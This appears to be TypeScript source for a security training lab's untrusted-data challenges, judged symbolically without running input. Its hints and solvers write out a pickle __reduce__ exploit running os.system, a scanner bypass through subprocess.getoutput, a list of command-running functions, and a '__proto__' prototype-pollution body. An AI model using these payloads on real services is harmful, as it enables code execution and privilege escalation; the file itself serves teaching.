/**
 * The untrusted-data challenges. Pickles are judged by the lab's symbolic loader (scanPickle):
 * it runs the pickle machine the way CPython's C unpickler does, recording each call instead of
 * making it, so "pickle.loads would call posix.system('…')" is read from its events and nothing
 * the learner sends is ever executed. The JSON one runs the naive merge on a model of JavaScript's
 * objects (merge-model.ts), so the judging realm's Object.prototype is never touched.
 */
import {
  bytesField,
  defineChallenge,
  onlyFields,
  stringField,
  type AnswerField,
  type Challenge,
  type Verdict,
} from '../../../core/challenge';
import { bytesToBase64, parseBase64, utf8ToBytes } from '../../../core/bytes';
import { expectOk, fail, ok, type Result } from '../../../core/result';
import { runMergeModel } from './json/merge-model';
import { canonical } from './pickle/danger';
import { buildReducePayload } from './pickle/payload';
import { renderSym, scanPickle, type LoadEvent } from './pickle/symbolic';
import { fewestSupplyDefences } from './supply/challenge';

/** A payload is a few hundred bytes; this leaves room for padding tricks and stays quick to scan. */
const MAX_PICKLE_BYTES = 64 * 1024;

export interface CommandPublic {
  /** The command the server's watcher looks for (one per instance, so answers are not shared). */
  command: string;
}

export interface PickleAnswer {
  /** The pickle, normalised to base64 (the learner may give hex or base64). */
  pickleBase64: string;
}

const PICKLE_FIELDS: readonly AnswerField[] = [
  {
    name: 'pickleBase64',
    label: 'Pickle',
    kind: 'bytes',
    as: 'base64',
    hint: 'The bytes pickle.loads receives: paste base64 or hex from Python, or type C escapes.',
  },
];

function parsePickleAnswer(answer: Record<string, unknown>): Result<PickleAnswer> {
  const fields = onlyFields(answer, ['pickleHex', 'pickleBase64']);
  if (!fields.ok) return fields;
  const bytes = bytesField(answer, 'pickle', MAX_PICKLE_BYTES);
  if (!bytes.ok) return bytes;
  if (bytes.value.length === 0)
    return fail('answer/empty', 'pickle: the pickle is empty (zero bytes).');
  return ok({ pickleBase64: bytesToBase64(bytes.value) });
}

type Call = Extract<LoadEvent, { kind: 'call' }>;

/** Names that run a program or a shell command (after posix → os and the like). */
const COMMAND_RUNNERS =
  /^(os\.(system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)|subprocess\.(Popen|call|check_call|check_output|run|getoutput|getstatusoutput)|pty\.spawn|platform\.popen|commands\.get(status)?output)$/;
const CODE_RUNNERS = /^builtins\.(eval|exec)$/;

/** Does the dotted name, or any tail of it (protocol 4 walks dotted paths), match? */
function nameMatches(dotted: string, pattern: RegExp): boolean {
  const parts = dotted.split('.');
  for (let i = 0; i < parts.length - 1; i++)
    if (pattern.test(canonical(parts.slice(i).join('.')))) return true;
  return false;
}

interface PickleLoad {
  calls: Call[];
  imports: string[];
  /** What pickle.loads raises, if it does. */
  error: string | null;
}

/** What pickle.loads does with the bytes: it reads the first pickle only. */
function loadPickle(answer: PickleAnswer): PickleLoad {
  const scan = scanPickle(expectOk(parseBase64(answer.pickleBase64)));
  const first = scan.memory.pickles[0]!;
  return {
    calls: first.events.filter((e): e is Call => e.kind === 'call'),
    imports: first.imports,
    error: first.error
      ? `${first.error.exception}: ${first.error.message} (at byte ${first.error.pos})`
      : null,
  };
}

const quoted = (command: string) => renderSym({ t: 'str', v: command });

/** Why nothing ran: an error first, an import never called, or only data. */
function nothingRan(load: PickleLoad, wanted: string): Verdict {
  if (load.calls.length === 0 && load.error)
    return {
      solved: false,
      reason: `pickle.loads raises ${load.error} before it calls anything.`,
    };
  if (load.calls.length === 0 && load.imports.length > 0)
    return {
      solved: false,
      reason: `Loading it imports ${load.imports.join(', ')} but calls nothing: finding a global only fetches it; the REDUCE opcode (R) is what calls it with the tuple of arguments before it.`,
    };
  if (load.calls.length === 0)
    return {
      solved: false,
      reason: `Loading it only builds data: it never calls ${wanted}.`,
    };
  const call = load.calls[0]!;
  return {
    solved: false,
    reason: `Loading it calls ${call.expr}${call.reason ? ` (which ${call.reason})` : ''}, not ${wanted}.`,
  };
}

const COMMAND_BRIEF =
  'A service accepts "session objects" as pickles and loads them with pickle.loads. A watcher on the server logs every command it starts.';

function makeCommand(rng: { hex(n: number): string }): CommandPublic {
  return { command: `touch /tmp/pwned-${rng.hex(3)}` };
}

export const posixSystem = defineChallenge<CommandPublic, Record<string, never>, PickleAnswer>({
  id: 'untrusted-data/posix-system',
  lab: 'untrusted-data',
  level: 1,
  title: 'A pickle that runs a command when loaded',
  brief: `${COMMAND_BRIEF} On Linux, os.system is posix.system, and that is the name pickle writes.`,
  goal: 'Hand in a pickle that makes pickle.loads call posix.system (os.system) with exactly the command below.',
  hints: [
    'Unpickling calls whatever the pickle tells it to: an object’s __reduce__ can return (callable, args), and loading calls callable(*args).',
    'In Python: class Exploit: def __reduce__(self): return (os.system, (command,)) — then pickle.dumps(Exploit()).',
    'By hand, at protocol 0: cposix\\nsystem\\n(V<command>\\ntR. — GLOBAL, MARK, a string, TUPLE, REDUCE, STOP. The lab’s payload builder writes it for you.',
  ],
  answerShape: '{ "pickleBase64": "…" } or { "pickleHex": "…" }',
  fields: PICKLE_FIELDS,
  make: (rng) => ({ public: makeCommand(rng), secret: {} }),
  parseAnswer: parsePickleAnswer,
  check(pub, _secret, answer) {
    const load = loadPickle(answer);
    const wanted = `posix.system(${quoted(pub.command)})`;
    const system = load.calls.filter((c) => canonical(c.callee) === 'os.system');
    const exact = system.find((c) => c.expr.endsWith(`(${quoted(pub.command)})`));
    if (exact)
      return {
        solved: true,
        reason: `pickle.loads calls ${exact.expr}: loading a pickle is running a program. Only unpickle data you produced, or verify an HMAC first.`,
      };
    if (system.length > 0)
      return {
        solved: false,
        reason: `Loading it calls ${system[0]!.expr}: right function, but the watcher is waiting for exactly ${quoted(pub.command)} as the one argument.`,
      };
    const runner = load.calls.find((c) => nameMatches(c.callee, COMMAND_RUNNERS));
    if (runner)
      return {
        solved: false,
        reason: `Loading it calls ${runner.expr}, which runs commands just as well; this challenge asks for posix.system (os.system) itself.`,
      };
    return nothingRan(load, wanted);
  },
  solve: (pub) => ({
    pickleBase64: bytesToBase64(
      expectOk(
        buildReducePayload({ module: 'posix', name: 'system', args: [pub.command], protocol: 0 }),
      ),
    ),
  }),
});

const NAIVE_WORD = utf8ToBytes('system');

function indexOfBytes(haystack: Uint8Array, needle: Uint8Array): number {
  outer: for (let i = 0; i + needle.length <= haystack.length; i++) {
    for (let j = 0; j < needle.length; j++) if (haystack[i + j] !== needle[j]) continue outer;
    return i;
  }
  return -1;
}

export const pastNaiveScanner = defineChallenge<CommandPublic, Record<string, never>, PickleAnswer>(
  {
    id: 'untrusted-data/past-naive-scanner',
    lab: 'untrusted-data',
    level: 2,
    title: 'Get past a scanner that looks for "system"',
    brief: `${COMMAND_BRIEF} After the last incident, someone added a check: if b"system" in data, the pickle is refused.`,
    goal: 'Hand in a pickle without the bytes "system" that still makes pickle.loads run the command below.',
    hints: [
      'os.system is one of many ways to start a program. What else in the standard library runs a command?',
      'subprocess.getoutput(cmd), subprocess.check_output(["sh", "-c", cmd]) and os.popen(cmd) all run it, and none of them is spelled with "system".',
      'A deny-list can only list the names someone thought of. The lab’s scanner works the other way round: it allows the few callables that only build values and flags everything else.',
    ],
    answerShape: '{ "pickleBase64": "…" } or { "pickleHex": "…" }',
    fields: PICKLE_FIELDS,
    make: (rng) => ({ public: makeCommand(rng), secret: {} }),
    parseAnswer: parsePickleAnswer,
    check(pub, _secret, answer) {
      const bytes = expectOk(parseBase64(answer.pickleBase64));
      const at = indexOfBytes(bytes, NAIVE_WORD);
      if (at >= 0)
        return {
          solved: false,
          reason: `The scanner found the bytes "system" at offset ${at} and refused the pickle before loading it.`,
        };
      const load = loadPickle(answer);
      const runners = load.calls.filter((c) => nameMatches(c.callee, COMMAND_RUNNERS));
      const ran = runners.find((c) => c.expr.includes(quoted(pub.command)));
      if (ran)
        return {
          solved: true,
          reason: `The scanner saw no "system", and pickle.loads called ${ran.expr} anyway. A deny-list misses every name it does not list; an allow-list of value builders would have refused this pickle.`,
        };
      if (runners.length > 0)
        return {
          solved: false,
          reason: `Loading it calls ${runners[0]!.expr}, which does run a command, but not ${quoted(pub.command)}.`,
        };
      const code = load.calls.find((c) => nameMatches(c.callee, CODE_RUNNERS));
      if (code)
        return {
          solved: false,
          reason: `Loading it calls ${code.callee}, which runs Python code from a string, and that code may well start a program; but this judge does not run Python, so it cannot tell. Make the pickle call a command runner itself.`,
        };
      return nothingRan(load, 'anything that runs a command');
    },
    solve: (pub) => ({
      pickleBase64: bytesToBase64(
        expectOk(
          buildReducePayload({
            module: 'subprocess',
            name: 'getoutput',
            args: [pub.command],
            protocol: 0,
          }),
        ),
      ),
    }),
  },
);

// ---------------------------------------------------------------- JSON through a naive merge

export interface MergePublic {
  /** The server's code, as the learner reads it. */
  server: string;
}

export interface MergeAnswer {
  /** The request body, exactly as sent. */
  body: string;
}

const MAX_BODY_CHARS = 10_000;

const MERGE_SERVER = [
  'function merge(target, source) {',
  '  for (const key in source) {',
  '    const value = source[key], current = target[key];',
  '    const canRecurse = (typeof current === "object" && current !== null) || typeof current === "function";',
  '    if (typeof value === "object" && value !== null && key in target && canRecurse) merge(current, value);',
  '    else target[key] = value;',
  '  }',
  '  return target;',
  '}',
  'const settings = merge({ theme: "light", language: "en" }, JSON.parse(body));',
  'const user = { name: "guest" };',
  'if (user.isAdmin) showAdminPanel();',
].join('\n');

export const mergeAdmin = defineChallenge<MergePublic, Record<string, never>, MergeAnswer>({
  id: 'untrusted-data/merge-admin',
  lab: 'untrusted-data',
  level: 2,
  title: 'Become admin through a settings merge',
  brief:
    'A Node server stores each visitor’s settings by deep-merging the JSON body of their request into the defaults (the code below). The user object it checks is made afterwards, and nothing ever sets its isAdmin.',
  goal: 'Hand in a JSON body after which user.isAdmin is truthy.',
  hints: [
    'JSON.parse only builds data; the danger is in what the merge does with the keys it finds.',
    'Every plain object inherits from Object.prototype. Which keys lead from an ordinary object to it?',
    'JSON.parse keeps "__proto__" as an ordinary key, but target["__proto__"] in the merge reads the prototype itself. Also try "constructor" then "prototype".',
  ],
  answerShape: '{ "body": "<the request body, a JSON object as a string>" }',
  fields: [{ name: 'body', label: 'Request body (JSON)', kind: 'textarea' }],
  make: () => ({ public: { server: MERGE_SERVER }, secret: {} }),
  parseAnswer(answer) {
    const fields = onlyFields(answer, ['body']);
    if (!fields.ok) return fields;
    const body = stringField(answer, 'body', MAX_BODY_CHARS);
    if (!body.ok) return body;
    let parsed: unknown;
    try {
      parsed = JSON.parse(body.value);
    } catch (error) {
      return fail('answer/body-json', `body: JSON.parse refuses it (${(error as Error).message}).`);
    }
    if (typeof parsed !== 'object' || parsed === null || Array.isArray(parsed))
      return fail(
        'answer/body-object',
        'body: must be a JSON object ({…}), the settings to merge.',
      );
    return ok({ body: body.value });
  },
  check(_pub, _secret, answer) {
    const outcome = runMergeModel(JSON.parse(answer.body) as Record<string, unknown>);
    const threw = outcome.threw
      ? ` The merge then threw ${outcome.threw}, but writes already made stay.`
      : '';
    if (outcome.userIsAdmin)
      return {
        solved: true,
        reason: `user.isAdmin is now ${outcome.userIsAdminValue}: the merge wrote it on Object.prototype, so every object in the server inherits it.${threw}`,
      };
    const onPrototype = outcome.isAdminWrites.filter((w) => w.target === 'Object.prototype');
    if (onPrototype.length > 0)
      return {
        solved: false,
        reason: `Object.prototype.isAdmin is now ${outcome.userIsAdminValue}: on the right object, but falsy, so if (user.isAdmin) still fails.`,
      };
    const elsewhere = outcome.isAdminWrites[0];
    if (elsewhere?.target === 'the settings object')
      return {
        solved: false,
        reason:
          'The merge copied isAdmin onto the settings object only. user is a different object and does not inherit from settings: the write must land on something every object inherits from.',
      };
    if (elsewhere)
      return {
        solved: false,
        reason: `isAdmin landed on ${elsewhere.target}, which user (a plain object) does not inherit from.`,
      };
    if (outcome.threw)
      return {
        solved: false,
        reason: `The merge threw ${outcome.threw} before anything wrote isAdmin.`,
      };
    return { solved: false, reason: 'After the merge, user.isAdmin is still undefined.' };
  },
  solve: () => ({ body: '{"__proto__": {"isAdmin": true}}' }),
});

export const UNTRUSTED_DATA_CHALLENGES: readonly Challenge[] = [
  posixSystem,
  pastNaiveScanner,
  mergeAdmin,
  fewestSupplyDefences,
];
